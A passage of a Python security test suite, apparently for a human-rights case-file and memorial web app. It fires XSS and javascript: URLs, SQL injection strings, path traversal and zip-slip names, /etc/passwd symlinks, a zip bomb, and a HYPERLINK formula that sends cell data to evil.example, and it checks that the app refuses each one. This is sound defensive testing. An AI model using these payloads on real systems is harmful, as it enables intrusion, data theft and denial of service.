        for p in (["/", "/memorial?q=Xss", "/team/search?q=Xss", "/team/sources",
                   "/team/casefile/testimonies", "/team/casefile/actors/xss-actor",
                   "/team/casefile/events/xss-event", "/team/casefile/timeline"]
                  + [f"/team/persons/{x}" for x in xss_persons[:5]]
                  + [f"/memorial/{x}" for x in xss_persons[:5]]):
            page.goto(p)
            pages += 1
            v = page.evaluate("() => window.__xss")
            if v is not None:
                ran.append(f"{p}: {v}")
        # W22 in the browser: every link on the event pages, clicked
        slugs = [s for (s,) in q(loc, "SELECT slug FROM events LIMIT 3")]
        for s in slugs:
            page.goto(f"/team/casefile/events/{s}")
            pages += 1
        browser.close()
    return not ran, f"{pages} pages in Chromium as admin; scripts that ran: {ran[:3] or 'none'}"


JS_URL = ("javascript:window.__xss='url1';"
          "alert(document.querySelector('meta[name=csrf-token]').content)")


@attack("W22", "web", "high", "BROKE")
def w22(w: World) -> tuple[bool, str]:
    loc = w.copy("w22")
    p1 = cli(loc, "source", "add", "js-url", "--title", "Innocent UN report", "--kind",
             "un_document", "--url", JS_URL)
    # a partner's case file with such a URL
    folder = _casefile_folder(w, "w22-cf")
    m = json.loads((folder / "casefile.json").read_text())
    m.setdefault("sources", []).append({"slug": "partner-report", "title": "Partner report",
                                        "kind": "ngo_report", "url": JS_URL.replace(
                                            "url1", "url2")})
    (folder / "casefile.json").write_text(json.dumps(m))
    p2 = cli(loc, "casefile", "import", str(folder))
    n = q1(loc, "SELECT count(*) FROM sources WHERE lower(url) LIKE '%javascript%'")
    # a URL that reached the database anyway (direct edit): rendered inert
    tamper(loc, "UPDATE sources SET url = ? WHERE id = (SELECT min(s.id) FROM sources s JOIN "
                "citations c ON c.source_id = s.id WHERE c.claim_kind = 'event')",
           params=(JS_URL,))
    with w.client(loc) as c:
        login(c, "admin1", PASSWORD.replace("role", "admin"))
        link = 0
        for (slug,) in q(loc, "SELECT slug FROM events"):
            html = c.get(f"/team/casefile/events/{slug}").text
            link += len(re.findall(r'href="\s*javascript', html, re.I))
    return (p1.returncode != 0 and p2.returncode != 0 and n == 0 and link == 0,
            f"source add: {'refused' if p1.returncode else 'ACCEPTED'}; case-file import: "
            f"{'refused' if p2.returncode else 'ACCEPTED'}; a javascript: URL in the DB renders "
            f"{link} links")


@attack("W23", "web", "low", "BROKE")
def w23(w: World) -> tuple[bool, str]:
    from dadkhah.portal import render_body

    html = str(render_body("A claim.[^b]\n\n[^b]: https://a.example/*x *y https://b.example/*z"))
    ok = "<em>x" not in html.split('href="https://a.example/')[1][:20] if \
        'href="https://a.example/' in html else False
    hrefs = re.findall(r'href="(https?://[^"]*)"', html)
    return ok and 'href="https://a.example/*x"' in html, f"footnote links: {hrefs}"


@attack("W24", "web", "low", "BROKE")
def w24(w: World) -> tuple[bool, str]:
    loc = w.copy("w24")
    sid = _submission(w, loc, full_name="Ali Spoofed", contact="real@example.org")
    with w.client(loc) as c:
        login(c, "reviewer1", PASSWORD.replace("role", "reviewer"))
        html = c.get(f"/team/submissions/{sid}?contact=CALL%20ME%20AT%20555-SPOOF").text
    # The text may come back in the language switch's hidden `next` and the calendar link
    # (this page's own address), never as shown content.
    shown = ">CALL ME AT 555-SPOOF<" in html or 'id="contact"' in html
    return not shown, "attacker text " + ("SHOWN in the contact cell" if shown else
                                          "not shown (only in this page's own address)")


@attack("W25", "web", "medium")
def w25(w: World) -> tuple[bool, str]:
    with w.client() as c:
        h = c.get("/").headers
    got = {k: h.get(k) for k in ("x-frame-options", "referrer-policy", "x-content-type-options",
                                 "cache-control")}
    return all(got.values()), str(got)


@attack("W26", "web", "low", "BROKE")
def w26(w: World) -> tuple[bool, str]:
    bad = []
    with w.client() as c:
        for p in ("/", "/memorial", "/team/login", "/api/public/persons", "/api/openapi.json",
                  "/no-such-page"):
            csp = c.get(p, follow_redirects=False).headers.get("content-security-policy", "")
            if "script-src 'self'" not in csp or "unsafe-inline" in csp:
                bad.append(p)
    return not bad, f"CSP missing or weak on: {bad or 'none'}"


@attack("W27", "web", "low", "BROKE")
def w27(w: World) -> tuple[bool, str]:
    with w.client() as c:
        h = c.get("/").headers.get("strict-transport-security")
    return bool(h), f"over https: Strict-Transport-Security: {h}"


@attack("W28", "web", "medium", "BROKE")
def w28(w: World) -> tuple[bool, str]:
    ext = []
    with w.client() as c:
        docs = c.get("/api/docs")
        for p in ("/", "/memorial", "/team/login", "/submit", "/articles", "/api/docs"):
            ext += [f"{p}: {m}" for m in re.findall(
                r"""(?:src|href)=["']?((?:https?:)?//[^"' >]+)""", c.get(p).text)]
    return not ext, f"/api/docs {docs.status_code}; third-party script/style: {ext[:3] or 'none'}"


@attack("W29", "web", "high")
def w29(w: World) -> tuple[bool, str]:
    codes = []
    with w.client() as c:
        for p in ("/static/%2e%2e/%2e%2e/case.db", "/static/../../case.db",
                  "/static/..%2f..%2fcase.db", "/static/%252e%252e/case.db",
                  "/static/....//....//case.db", "/static/..\\..\\case.db"):
            r = c.get(p)
            codes.append(r.status_code if b"SQLite format" not in r.content else "LEAK")
    return all(x in (400, 404) for x in codes), f"codes {codes}"


@attack("W30", "web", "low")
def w30(w: World) -> tuple[bool, str]:
    codes = []
    with w.client() as c:
        tok = login(c, "admin1", PASSWORD.replace("role", "admin"))
        for m in ("PUT", "DELETE", "PATCH"):
            for p in ("/team/sources", "/team/review/decide", "/team/users"):
                codes.append(c.request(m, p, data={"csrf_token": tok},
                                       headers={"X-CSRF-Token": tok}).status_code)
    return all(x == 405 for x in codes), f"codes {sorted(set(codes))}"


def _upload(c: Any, tok: str, name: str, content: bytes = b"name\nUpload Person\n") -> Any:
    return c.post("/team/imports/preview", data={"csrf_token": tok, "source": "rob-up"},
                  files={"file": (name, content, "text/csv")}, follow_redirects=False)


@attack("W31", "web", "high")
def w31(w: World) -> tuple[bool, str]:
    loc = w.copy("w31")
    cli(loc, "source", "add", "rob-up", "--title", "Uploads", "--kind", "other")
    outside = w.root / "w31-outside"
    outside.mkdir()
    names = [f"../../../../{outside}/x.csv".replace("//", "/"), "..\\..\\x.csv",
             f"{outside}/abs.csv", "%2e%2e%2fx.csv", "a\x00b.csv", ".", "..", "",
             "\u202evsc.exe", "../x.csv", "....//x.csv"]
    codes, escaped = [], []
    with w.client(loc) as c:
        tok = login(c, "editor1", PASSWORD.replace("role", "editor"))
        for n in names:
            with suppress(Exception):
                codes.append(_upload(c, tok, n).status_code)
    escaped = [str(p) for p in outside.rglob("*")] + [
        str(p) for p in loc.parent.glob("x.csv")] + [str(p) for p in w.root.glob("*.csv")
                                                     if p.name in ("x.csv", "abs.csv")]
    return not escaped and 500 not in codes, f"{len(names)} names, codes " \
                                             f"{sorted(set(codes))}; outside: {escaped or 'none'}"


@attack("W32", "web", "low", "BROKE")
def w32(w: World) -> tuple[bool, str]:
    loc = w.copy("w32")
    cli(loc, "source", "add", "rob-up", "--title", "Uploads", "--kind", "other")
    with w.client(loc) as c:
        tok = login(c, "editor1", PASSWORD.replace("role", "editor"))
        r = _upload(c, tok, "a" * 296 + ".csv")
    up = loc / "uploads"
    empty = [p for p in up.glob("*") if p.is_dir() and not any(p.iterdir())] if up.exists() \
        else []
    return r.status_code < 500 and not empty, f"300-byte name: {r.status_code}; empty " \
                                              f"upload folders left: {len(empty)}"


SQLI = ["'", "\"", "' OR '1'='1", "1' UNION SELECT sql FROM sqlite_master--",
        "x'; DROP TABLE persons;--", "randomblob(1000000000)", "%", "_", "علی' OR 1=1--",
        "\\", "%%", "' AND 1=0 UNION SELECT 1,2,3--", "\u0000", "1)--", "') OR ('a'='a",
        "%' AND 1=1 AND '%'='", "abc%'", "*", "'||(SELECT 1)||'", "rez_", "1;SELECT 1",
        "NULL", "' COLLATE NOCASE--"]


@attack("W33", "web", "high")
def w33(w: World) -> tuple[bool, str]:
    bad, n = [], 0
    h = {"Authorization": f"Bearer {w.tokens['viewer']}"}
    with w.client() as c:
        base = len(c.get("/api/persons", headers=h).json().get("items", []))
        login(c, "viewer1", PASSWORD.replace("role", "viewer"))
        for p in SQLI:
            for url in ("/api/persons?q={}", "/api/persons?prison={}", "/api/persons?city={}",
                        "/api/persons?source={}", "/api/persons?died_from={}",
                        "/team/search?q={}", "/team/search?prison={}", "/memorial?q={}",
                        "/api/public/persons?q={}"):
                from urllib.parse import quote

                r = c.get(url.format(quote(p)), headers=h if url.startswith("/api/p") and
                          "public" not in url else {})
                n += 1
                if r.status_code >= 500:
                    bad.append(f"{url.format(p)} {r.status_code}")
                elif p in ("%", "_", "' OR '1'='1") and url.startswith("/api/persons?q") \
                        and len(r.json().get("items", [])) >= base > 0:
                    bad.append(f"{url.format(p)} matched everything")
    ok = q1(w.base, "SELECT count(*) FROM persons") > 0
    return not bad and ok, f"{n} requests; 5xx or wildcard: {bad[:3] or 'none'}"


@attack("W34", "web", "high")
def w34(w: World) -> tuple[bool, str]:
    planted = ["PLANTEDWITNESS", "Khosrowplantednonpublic", "Fatherplantednonpublic",
               "شاهدمحرمانه", "PLANTEDSUBCONTACT"]
    hits, n = [], 0
    with w.client() as c:
        page = 1
        while True:
            r = c.get(f"/api/public/persons?page={page}")
            n += 1
            hits += [m for m in planted if m in r.text]
            items = r.json().get("items", [])
            if not items or page > 40:
                break
            page += 1
        for pid in (w.planted_person, *[p for (p,) in q(
                w.base, "SELECT person_id FROM published_persons LIMIT 60")]):
            for u in (f"/memorial/{pid}", f"/api/public/persons/{pid}", f"/submit?person_id={pid}"):
                r = c.get(u)
                n += 1
                hits += [f"{u}: {m}" for m in planted if m in r.text]
        for s in ("Khosrow", "planted", "Tabrizian", "Zahra", "شاهد"):
            for u in (f"/memorial?q={s}", f"/api/public/persons?q={s}"):
                n += 1
                hits += [f"{u}: {m}" for m in planted if m in c.get(u).text]
        unpub = c.get(f"/api/public/persons/{w.planted_person}").status_code
    return not hits and unpub == 404, f"{n} responses; planted values found: " \
                                      f"{hits[:3] or 'none'}; unpublished person {unpub}"


@attack("W35", "web", "medium", "BROKE")
def w35(w: World) -> tuple[bool, str]:
    from dadkhah.ingest import import_file
    from dadkhah.linkage import link_case
    from dadkhah.register import normalize_case
    from dadkhah.store import Case

    loc = w.copy("w35")
    # the informant's row names a published person (copy its record's fields)
    pid, *row = q(loc, "SELECT pr.person_id, r.full_name, r.father_name, r.death_date, "
                       "r.prison FROM source_records r JOIN person_records pr ON pr.record_id "
                       "= r.id JOIN published_persons pp ON pp.person_id = pr.person_id WHERE "
                       "r.full_name IS NOT NULL AND r.father_name IS NOT NULL AND r.death_date "
                       "IS NOT NULL ORDER BY pr.person_id LIMIT 1")[0]
    with Case.open(loc) as case:
        case.add_source(slug="informant", kind="other", reliability="D", by="redteam",
                        title="CONFIDENTIAL informant list from guard R. at Evin (do not "
                              "publish)")
        import_file(case, write_csv(w.root / "informant.csv", [
            ["name", "father name", "death date", "prison", "notes"],
            [str(row[0] or ""), str(row[1] or ""), str(row[2] or ""), str(row[3] or ""),
             "informant says …"]]), source="informant", by="redteam")
        normalize_case(case, by="redteam")
        link_case(case, by="redteam")
    informant = q1(loc, "SELECT id FROM sources WHERE slug='informant'")
    linked = q(loc, "SELECT pr.person_id FROM person_records pr JOIN source_records r ON "
                    "r.id = pr.record_id WHERE r.source_id = ?", (informant,))
    leaks = []
    with w.client(loc) as c:
        for (p,) in q(loc, "SELECT person_id FROM published_persons"):
            for u in (f"/api/public/persons/{p}", f"/memorial/{p}"):
                t = c.get(u).text
                if "CONFIDENTIAL" in t or "informant" in t:
                    leaks.append(u)
    return bool(linked) and not leaks, \
        f"informant's record (a copy of published person {pid}'s) joined person(s) " \
        f"{[x for (x,) in linked]}; " \
                      f"public pages naming it: {leaks[:3] or 'none'}"


@attack("W36", "web", "medium", "BROKE")
def w36(w: World) -> tuple[bool, str]:
    import httpx

    loc = w.copy("w36")
    env = {k: "" for k in ("DADKHAH_KEY_FILE", "DADKHAH_KEY")}
    with served(loc, env=env) as (proc, url), httpx.Client(base_url=url) as c:
        form = c.get("/submit")
        tok = csrf_of(form.text)
        stamp = re.search(r'name="form_token" value="([^"]+)"', form.text).group(1)
        time.sleep(3.2)
        r = c.post("/submit", data={"kind": "report", "full_name": "Ali Contactclear",
                                    "relation": "sister",
                                    "contact": "PLANTEDSUBMITTERCONTACT family@example.org",
                                    "csrf_token": tok, "form_token": stamp},
                   follow_redirects=False)
    banner = proc.stdout.read().decode() if proc.stdout else ""
    raw = b"".join(p.read_bytes() for p in loc.glob("case.db*"))
    clear = b"PLANTEDSUBMITTERCONTACT" in raw
    warned = "UNENCRYPTED" in " ".join(banner.split())
    return (not clear, f"POST /submit {r.status_code}; contact in case.db bytes: "
                       f"{'IN CLEAR' if clear else 'absent'}; start-up warning: "
                       f"{'yes' if warned else 'no'}")


@attack("W37", "web", "medium")
def w37(w: World) -> tuple[bool, str]:
    loc = w.copy("w37")
    n0 = q1(loc, "SELECT count(*) FROM portal_submissions")
    with w.client(loc) as c:
        from dadkhah.web.public import portal_state

        form = c.get("/submit")
        portal_state_ = portal_state  # noqa: F841  (the guard is checked as served)
        stamp = re.search(r'name="form_token" value="([^"]+)"', form.text).group(1)
        time.sleep(3.1)
        r = c.post("/submit", data={"kind": "report", "full_name": "Ali <img src=x onerror="
                                    "alert(1)>", "relation": "sister",
                                    "csrf_token": csrf_of(form.text), "form_token": stamp},
                   follow_redirects=False)
    n1 = q1(loc, "SELECT count(*) FROM portal_submissions")
    return r.status_code >= 400 and n0 == n1, f"{r.status_code}; submissions {n0}→{n1}"


@attack("W38", "web", "low", "BROKE")
def w38(w: World) -> tuple[bool, str]:
    import httpx

    loc = w.copy("w38")
    with served(loc) as (_, url), httpx.Client(base_url=url) as c:
        form = c.get("/submit")
        tok = csrf_of(form.text)
        stamp = re.search(r'name="form_token" value="([^"]+)"', form.text).group(1)
        time.sleep(3.2)
        codes = [c.post("/submit", data={"kind": "report", "full_name": f"Rate Person {i}",
                                         "relation": "sister", "csrf_token": tok,
                                         "form_token": stamp},
                        headers={"X-Forwarded-For": f"203.0.113.{i}"},
                        follow_redirects=False).status_code for i in range(12)]
    accepted = sum(1 for x in codes if x == 303)
    return accepted <= 5, f"12 posts rotating XFF: {accepted} accepted, " \
                          f"{codes.count(429)}×429"


@attack("W39", "web", "medium")
def w39(w: World) -> tuple[bool, str]:
    loc = w.copy("w39")
    cli(loc, "source", "add", "rob-up", "--title", "Uploads", "--kind", "other")
    results = []
    for trial in range(3):
        with w.client(loc, run_jobs=True) as c:
            tok = login(c, "editor1", PASSWORD.replace("role", "editor"))
            r = _upload(c, tok, f"dbl{trial}.csv", f"name\nDouble Click {trial}\n".encode())
            m = re.search(r'name="token" value="([^"]+)"', r.text)
            if not m:
                return False, f"preview gave no token ({r.status_code})"
            data = {"csrf_token": tok, "token": m.group(1), "source": "rob-up"}
            with cf.ThreadPoolExecutor(2) as ex:
                codes = list(ex.map(lambda d: c.post("/team/imports/confirm", data=d,
                                                     follow_redirects=False).status_code,
                                    [data, data]))
            deadline = time.monotonic() + 60  # the import runs as a background job
            while time.monotonic() < deadline and not q1(
                    loc, "SELECT count(*) FROM source_records WHERE full_name = ?",
                    (f"Double Click {trial}",)):
                time.sleep(0.3)
            time.sleep(1)
        n = q1(loc, "SELECT count(*) FROM source_records WHERE full_name = ?",
               (f"Double Click {trial}",))
        results.append((codes, n))
    return all(n == 1 for _, n in results), f"3 trials (codes, records): {results}"


# == CSV / XLSX exports ========================================================================
def _live_formulas_csv(path: Path) -> list[str]:
    import csv

    bad = []
    with open(path, encoding="utf-8-sig", newline="") as f:
        for row in csv.reader(f):
            for cell in row:
                s = cell.lstrip(" \t\r\n")
                if s[:1] in ("=", "+", "-", "@") and not re.fullmatch(r"[-+]?\d+(\.\d+)?", s):
                    bad.append(cell)
    return bad


@attack("X1", "exports", "medium", "BROKE")
def x1(w: World) -> tuple[bool, str]:
    loc = w.copy("x1")
    counts, errs = {}, []
    for what in ("records", "persons", "register"):
        o = w.root / f"x1-{what}.csv"
        p = cli(loc, "export", what, "--format", "csv", "-o", str(o))
        if p.returncode:
            errs.append(f"{what}: {out(p)[:100]}")
            continue
        counts[what] = len(_live_formulas_csv(o))
    o = w.root / "x1-ec.csv"
    p = cli(loc, "export", "every-casualty", "-o", str(o))
    if p.returncode == 0:
        counts["every-casualty"] = len(_live_formulas_csv(o))
    else:
        errs.append(f"every-casualty: {out(p)[:100]}")
    return (not errs and not any(counts.values()),
            f"cells starting = + - @ left live: {counts} {errs or ''}")


@attack("X2", "exports", "high", "BROKE")
def x2(w: World) -> tuple[bool, str]:
    import openpyxl

    from dadkhah.linkage import link_case
    from dadkhah.portal import accept
    from dadkhah.register import normalize_case
    from dadkhah.store import Case

    loc = w.copy("x2")
    sid = _submission(w, loc, full_name='=HYPERLINK("http://evil.example/?leak="&A1,'
                                        '"Click for details")')
    with Case.open(loc) as case:
        accept(case, sid, by="reviewer1", role="reviewer")
        normalize_case(case, by="redteam")
        link_case(case, by="redteam")
    o = w.root / "x2-register.xlsx"
    p = cli(loc, "export", "register", "--format", "xlsx", "-o", str(o))
    if p.returncode:
        return False, "export failed: " + out(p)[:150]
    wb = openpyxl.load_workbook(o)
    f = [(c.coordinate, c.value) for ws in wb for r in ws.iter_rows() for c in r
         if c.data_type == "f"]
    hyper = sum(1 for ws in wb for r in ws.iter_rows() for c in r
                if isinstance(c.value, str) and "HYPERLINK" in c.value)
    return not f and hyper > 0, f"{len(f)} formula cells {f[:2]}; {hyper} payload cells " \
                                "kept as text"


# == Case-file import ==========================================================================
def _casefile_folder(w: World, name: str) -> Path:
    """An exported copy of the example case file (folder with casefile.json and evidence)."""
    from dadkhah import casefile as cf
    from dadkhah.store import Case

    tmp = w.root / f"{name}-src"
    if not tmp.exists():
        loc = w.fresh(f"{name}-exp")
        with Case.open(loc) as case:
            cf.load_example(case, by="redteam", role="admin")
            cf.export_casefile(case, tmp, by="redteam", role="admin")
    dest = w.root / name
    shutil.rmtree(dest, ignore_errors=True)
    shutil.copytree(tmp, dest, symlinks=True)
    return dest


def _zip(folder: Path, out_zip: Path, extra: dict[str, bytes] | None = None,
         symlinks: dict[str, str] | None = None) -> Path:
    with zipfile.ZipFile(out_zip, "w", zipfile.ZIP_DEFLATED) as z:
        for p in sorted(folder.rglob("*")):
            if p.is_file():
                z.write(p, p.relative_to(folder).as_posix())
        for n, data in (extra or {}).items():
            z.writestr(n, data)
        for n, target in (symlinks or {}).items():
            info = zipfile.ZipInfo(n)
            info.external_attr = (0o120777 << 16)
            z.writestr(info, target)
    return out_zip


def _evidence_entry(m: dict[str, Any]) -> dict[str, Any]:
    return m["evidence"][0]


def _imported(loc: Path, table: str = "evidence") -> int:
    return int(q1(loc, f"SELECT count(*) FROM {table}"))


@attack("C1", "casefile", "high")
def c1(w: World) -> tuple[bool, str]:
    folder = _casefile_folder(w, "c1")
    target = w.root / "ZIPSLIP-rel.txt"
    z = _zip(folder, w.root / "c1.zip", {"../../../../" + str(target).lstrip("/"): b"pwned"})
    loc = w.fresh("c1")
    p = cli(loc, "casefile", "import", str(z))
    return not target.exists() and p.returncode != 0, out(p)[:150]


@attack("C2", "casefile", "high")
def c2(w: World) -> tuple[bool, str]:
    folder = _casefile_folder(w, "c2")
    target = w.root / "ZIPSLIP-abs.txt"
    z = _zip(folder, w.root / "c2.zip", {str(target): b"pwned"})
    loc = w.fresh("c2")
    p = cli(loc, "casefile", "import", str(z))
    return not target.exists() and p.returncode != 0, out(p)[:150]


@attack("C3", "casefile", "high")
def c3(w: World) -> tuple[bool, str]:
    folder = _casefile_folder(w, "c3")
    z = _zip(folder, w.root / "c3.zip", {"..\\..\\..\\BACKSLASH-x.txt": b"pwned"})
    loc = w.fresh("c3")
    p = cli(loc, "casefile", "import", str(z))
    found = list(w.root.parent.glob("BACKSLASH*")) + list(w.root.glob("BACKSLASH*"))
    return not found and "Traceback" not in out(p), f"{out(p)[:120]}; outside: {found or 'none'}"


@attack("C4", "casefile", "high")
def c4(w: World) -> tuple[bool, str]:
    folder = _casefile_folder(w, "c4")
    m = json.loads((folder / "casefile.json").read_text())
    ev = _evidence_entry(m)
    (folder / ev["path"]).unlink()
    ev["sha256"] = hashlib.sha256(Path("/etc/passwd").read_bytes()).hexdigest()
    (folder / "casefile.json").write_text(json.dumps(m))
    z = _zip(folder, w.root / "c4.zip", symlinks={ev["path"]: "/etc/passwd"})
    loc = w.fresh("c4")
    p = cli(loc, "casefile", "import", str(z))
    return p.returncode != 0 and _imported(loc) == 0, out(p)[:150]


@attack("C5", "casefile", "high")
def c5(w: World) -> tuple[bool, str]:
    folder = _casefile_folder(w, "c5")
    m = json.loads((folder / "casefile.json").read_text())
    ev = _evidence_entry(m)
    (folder / ev["path"]).unlink()
    (folder / ev["path"]).symlink_to("/etc/passwd")
    ev["sha256"] = hashlib.sha256(Path("/etc/passwd").read_bytes()).hexdigest()
    ev["size"] = Path("/etc/passwd").stat().st_size
    (folder / "casefile.json").write_text(json.dumps(m))
    loc = w.fresh("c5")
    p = cli(loc, "casefile", "import", str(folder))
    return p.returncode != 0 and _imported(loc) == 0, out(p)[:150]


@attack("C6", "casefile", "high")
def c6(w: World) -> tuple[bool, str]:
    folder = _casefile_folder(w, "c6")
    m = json.loads((folder / "casefile.json").read_text())
    ev = _evidence_entry(m)
    ev["path"] = "../../../../../etc/passwd"
    ev["sha256"] = hashlib.sha256(Path("/etc/passwd").read_bytes()).hexdigest()
    (folder / "casefile.json").write_text(json.dumps(m))
    loc = w.fresh("c6")
    p = cli(loc, "casefile", "import", str(folder))
    return p.returncode != 0 and _imported(loc) == 0, out(p)[:150]


@attack("C7", "casefile", "high", "BROKE")
def c7(w: World) -> tuple[bool, str]:
    written, msgs = [], []
    for i, name in enumerate([str(w.root / "PWNED-absolute.txt"), "../../PWNED-relative.sh"]):
        folder = _casefile_folder(w, f"c7-{i}")
        m = json.loads((folder / "casefile.json").read_text())
        for ev in m["evidence"]:
            ev["original_name"] = name
        (folder / "casefile.json").write_text(json.dumps(m))
        loc = w.fresh(f"c7-{i}")
        p = cli(loc, "casefile", "import", str(folder))
        msgs.append("import refused" if p.returncode else "imported")
        if p.returncode == 0:
            dest = w.root / f"c7-out-{i}" / "sub"
            e = cli(loc, "evidence", "export", "1", "--to", str(dest) + "/")
            msgs.append(out(e)[:80])
        written += [str(x) for x in w.root.rglob("PWNED-*")]
    return not written, f"{'; '.join(msgs)}; files outside the target: {written or 'none'}"


@attack("C8", "casefile", "low", "BROKE")
def c8(w: World) -> tuple[bool, str]:
    folder = _casefile_folder(w, "c8")
    z = w.root / "c8-bomb.zip"
    with zipfile.ZipFile(z, "w", zipfile.ZIP_DEFLATED) as zf:
        for p in sorted(folder.rglob("*")):
            if p.is_file():
                zf.write(p, p.relative_to(folder).as_posix())
        with zf.open("evidence/bomb.bin", "w", force_zip64=True) as f:
            chunk = b"\0" * (1 << 20)
            for _ in range(1024):
                f.write(chunk)
    loc = w.fresh("c8")
    tmpdir = w.root / "c8-tmp"
    tmpdir.mkdir()
    t = time.monotonic()
    peak = [0]
    stop = threading.Event()

    def watch() -> None:
        while not stop.is_set():
            with suppress(OSError):
                peak[0] = max(peak[0], sum(f.stat().st_size for f in tmpdir.rglob("*")
                                           if f.is_file()))
            time.sleep(0.05)
    th = threading.Thread(target=watch)
    th.start()
    p = cli(loc, "casefile", "import", str(z), env={"TMPDIR": str(tmpdir)})
    stop.set()
    th.join()
    return (p.returncode != 0 and peak[0] < 200 << 20,
            f"{z.stat().st_size / 1e6:.1f} MB zip of 1 GiB: {out(p)[:100]}; peak extracted "
            f"{peak[0] / 2**20:.0f} MiB in {time.monotonic() - t:.1f} s")


@attack("C9", "casefile", "medium", "BROKE")
def c9(w: World) -> tuple[bool, str]:
    from dadkhah import casefile as cf

    folder = _casefile_folder(w, "c9")
    key = cf.load_key(w.key_file)
    m = json.loads((folder / "casefile.json").read_text())
    m = {"format": m["format"], "version": m["version"], "evidence": [], "testimonies": []}
    m["testimonies"] = [{"pseudonym": "w-forged", "protected": base64.b64encode(
        os.urandom(80)).decode(), "key_fingerprint": key.fingerprint,
        "created_by": "admin1", "created_at": "2020-01-01T00:00:00+00:00"}]
    (folder / "casefile.json").write_text(json.dumps(m))
    z = _zip(folder, w.root / "c9.zip")
    loc = w.copy("c9")
    p = cli(loc, "casefile", "import", str(z), env={"DADKHAH_KEY_FILE": str(w.key_file)})
    p0 = cli(loc, "casefile", "import", str(z), env={"DADKHAH_KEY_FILE": ""})
    forged = q1(loc, "SELECT count(*) FROM testimonies WHERE pseudonym = 'w-forged'")
    new_key = w.root / "c9-new.key"
    cli(loc, "testimony", "keygen", str(new_key))
    r = cli(loc, "testimony", "rekey", "--key-file", str(w.key_file), "--new-key-file",
            str(new_key))
    return (forged == 0 and r.returncode == 0 and clean_error(p) and clean_error(p0),
            f"import with key: {out(p)[:70]}; without: {out(p0)[:60]}; forged rows "
            f"{forged}; rekey {'ok' if r.returncode == 0 else 'FAILED: ' + out(r)[:60]}")


@attack("C10", "casefile", "low", "BROKE")
def c10(w: World) -> tuple[bool, str]:
    folder = _casefile_folder(w, "c10")
    m = json.loads((folder / "casefile.json").read_text())
    keep = {k: v for k, v in m.items() if k not in ("sources", "actors", "events", "roles",
                                                    "allegations", "figures", "testimonies",
                                                    "burial_sites", "citations")}
    for ev in keep["evidence"]:
        ev.pop("source", None)
    (folder / "casefile.json").write_text(json.dumps(keep))
    loc = w.fresh("c10")
    p = cli(loc, "casefile", "import", str(folder))
    return (p.returncode == 0 and "KeyError" not in out(p) and _imported(loc) > 0,
            f"manifest with only `evidence`: {out(p)[:120]}")


# == Import robustness =========================================================================
def _imp(w: World, name: str, data: bytes, *args: str, loc: Path | None = None,
         timeout: float = 300) -> tuple[Path, subprocess.CompletedProcess[str]]:
    loc = loc or w.fresh("imp")
    f = w.root / name
    f.write_bytes(data)
    return loc, cli(loc, "import", str(f), "--source", "rob", *args, timeout=timeout)


def _recs(loc: Path) -> int:
    return int(q1(loc, "SELECT count(*) FROM source_records"))


def _rej(loc: Path) -> int:
    return int(q1(loc, "SELECT count(*) FROM rejected_rows"))


def _no_tb(p: subprocess.CompletedProcess[str]) -> bool:
    return "Traceback" not in p.stdout + p.stderr


@attack("I1", "import", "low")
def i1(w: World) -> tuple[bool, str]:
    loc, p = _imp(w, "i1.csv", b"name,age,prison\nAli Ok,30,Evin\nShort Row\n"
                               b"Long,1,2,3,4,5\n,,\n\"\",\"\",\"\"\nA,x,y,z\n")
    return _no_tb(p) and _recs(loc) >= 1 and _rej(loc) >= 2, \
        f"{_recs(loc)} imported, {_rej(loc)} rejected: {out(p)[:80]}"


@attack("I2", "import", "low")
def i2(w: World) -> tuple[bool, str]:
    loc, p = _imp(w, "i2.csv", b"name,age\nAli\x00Nul,30\nReza Ok,31\n")
    nul = q1(loc, "SELECT count(*) FROM source_records WHERE instr(full_name, char(0)) > 0")
    return _no_tb(p) and nul == 0, f"{_recs(loc)} imported, {_rej(loc)} rejected, NUL stored " \
                                   f"{nul}"


@attack("I3", "import", "low")
def i3(w: World) -> tuple[bool, str]:
    loc, p = _imp(w, "i3.csv", b"name,notes\nAli Big," + b"x" * 10_000_000 + b"\nReza,ok\n")
    return _no_tb(p) and p.returncode in (0, 1), f"{_recs(loc)} imported, {_rej(loc)} " \
                                                 f"rejected: {out(p)[:80]}"


@attack("I4", "import", "medium", "BROKE")
def i4(w: World) -> tuple[bool, str]:
    rows = "".join(f"علی رضایی {i},حسن,30,1988-08-01,اوین\n" for i in range(1000))
    data = (b"name,father name,age,death date,prison\n" + rows.encode("utf-8")
            + "محمد كريمي,رضا,31,1988-08-02,اوين\n".encode("cp1256"))
    loc, p = _imp(w, "mixed1000.csv", data)
    moj = q1(loc, "SELECT count(*) FROM source_records WHERE full_name LIKE '%ط¹ظ„%'")
    return moj == 0 and _no_tb(p), f"{out(p)[:110]}; mojibake names stored: {moj}"


@attack("I5", "import", "low")
def i5(w: World) -> tuple[bool, str]:
    loc, p = _imp(w, "i5.csv", "\ufeff\ufeffname,age\nAli Bom,30\n".encode())
    n = q1(loc, "SELECT count(*) FROM source_records WHERE full_name = 'Ali Bom'")
    return n == 1, f"name mapped: {n}; {out(p)[:80]}"


@attack("I6", "import", "low")
def i6(w: World) -> tuple[bool, str]:
    loc, p = _imp(w, "i6.csv", "name,age\nAli One,30\n\ufeffReza Two,31\n".encode())
    return _recs(loc) == 2, f"{_recs(loc)} stored"


@attack("I7", "import", "low")
def i7(w: World) -> tuple[bool, str]:
    loc, p = _imp(w, "i7.csv", "name,age\nعلی رضایی,30\nحسن کریمی,31\n".encode("utf-16-le"))
    n = q1(loc, "SELECT count(*) FROM source_records WHERE full_name = 'علی رضایی'")
    return n == 1, f"decoded: {n}; {out(p)[:80]}"


@attack("I8", "import", "low")
def i8(w: World) -> tuple[bool, str]:
    loc, p = _imp(w, "i8.csv", b"\xff\xfe" + "name,age\nعلی,30\n".encode())
    return clean_error(p) and _recs(loc) == 0, out(p)[:120]


@attack("I9", "import", "low")
def i9(w: World) -> tuple[bool, str]:
    loc, p = _imp(w, "i9.csv", os.urandom(4096))
    return _no_tb(p) and (p.returncode != 0 or _recs(loc) == 0), out(p)[:120]


@attack("I10", "import", "low")
def i10(w: World) -> tuple[bool, str]:
    loc, p = _imp(w, "i10.csv", Path("/bin/true").read_bytes())
    return clean_error(p) and _recs(loc) == 0, out(p)[:120]


@attack("I11", "import", "low")
def i11(w: World) -> tuple[bool, str]:
    loc, p = _imp(w, "i11.csv", b"")
    return clean_error(p), out(p)[:120]


@attack("I12", "import", "low")
def i12(w: World) -> tuple[bool, str]:
    loc, p = _imp(w, "i12.csv", b"name,age\n")
    return _no_tb(p) and _recs(loc) == 0, out(p)[:120]


@attack("I13", "import", "low")
